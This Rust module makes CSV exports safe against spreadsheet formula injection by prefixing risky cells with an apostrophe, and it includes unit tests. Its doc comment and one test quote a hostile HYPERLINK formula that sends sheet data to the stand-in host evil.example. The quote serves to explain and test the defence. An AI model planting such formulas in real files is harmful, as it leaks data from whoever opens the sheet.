//! CSV that a spreadsheet cannot be tricked into running.
//!
//! Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, and a tab or carriage return in front can hide one. A party named
//! `=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")` would then send the sheet's data
//! away when a journalist clicks. As OWASP recommends, such a cell gets a leading `'`, which
//! spreadsheets show as text and do not display. Only CSV is changed: the JSON files keep
//! every text exactly as written, for programs.

use super::ExportError;

/// The first characters that make a spreadsheet cell a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell`, with a `'` in front when it would otherwise be read as a formula.
pub fn cell(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Whether some cell of the CSV `written` may start with one of [`FORMULA_STARTS`]: such a
/// character at the start of the file or right after a comma, a line end or a quote. Most
/// files have none, and need not be read back.
fn may_hold_formula(written: &[u8]) -> bool {
    let starts = |b: &u8| FORMULA_STARTS.iter().any(|&c| c as u32 == u32::from(*b));
    written.first().is_some_and(starts)
        || written
            .windows(2)
            .any(|w| matches!(w[0], b',' | b'\n' | b'"') && starts(&w[1]))
}

/// The CSV `written`, every cell made safe with [`cell`]. A file that may hold a formula
/// is read back and written again, so every field of every record is covered, whatever
/// its type.
pub fn neutralise(written: &[u8]) -> Result<Vec<u8>, ExportError> {
    if !may_hold_formula(written) {
        return Ok(written.to_vec());
    }
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(written);
    let mut writer = csv::Writer::from_writer(Vec::new());
    let mut record = csv::StringRecord::new();
    while reader.read_record(&mut record)? {
        writer.write_record(
            record
                .iter()
                .map(cell)
                .collect::<Vec<_>>()
                .iter()
                .map(|c| c.as_ref()),
        )?;
    }
    writer
        .into_inner()
        .map_err(|err| ExportError::Csv(err.into_error().into()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_becomes_text_and_other_cells_stay_as_they_are() {
        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klicka här\")";
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer
            .write_record([
                hostile,
                "+46 8 123",
                "-1",
                "@SUM(A1)",
                "\tx",
                "\r=1",
                "Malmö stad",
            ])
            .unwrap();
        writer
            .write_record(["a=b", "", "2024", "x-y", "1 000", "'", "ok"])
            .unwrap();
        let safe = neutralise(&writer.into_inner().unwrap()).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(safe.as_slice());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        assert_eq!(
            rows[0],
            [
                format!("'{hostile}"),
                "'+46 8 123".into(),
                "'-1".into(),
                "'@SUM(A1)".into(),
                "'\tx".into(),
                "'\r=1".into(),
                "Malmö stad".into()
            ]
        );
        assert_eq!(rows[1], ["a=b", "", "2024", "x-y", "1 000", "'", "ok"]);
    }

    #[test]
    fn a_file_without_a_formula_is_left_as_it_is() {
        let plain = b"id,amount,note\na,2024-01-01,x-y a=b\n";
        assert!(!may_hold_formula(plain));
        assert_eq!(neutralise(plain).unwrap(), plain);
        for risky in [&b"=1"[..], b"a,-1", b"a\n@x", b"a,\"+1\"", b"a,\tb"] {
            assert!(
                may_hold_formula(risky),
                "{}",
                String::from_utf8_lossy(risky)
            );
        }
    }
}
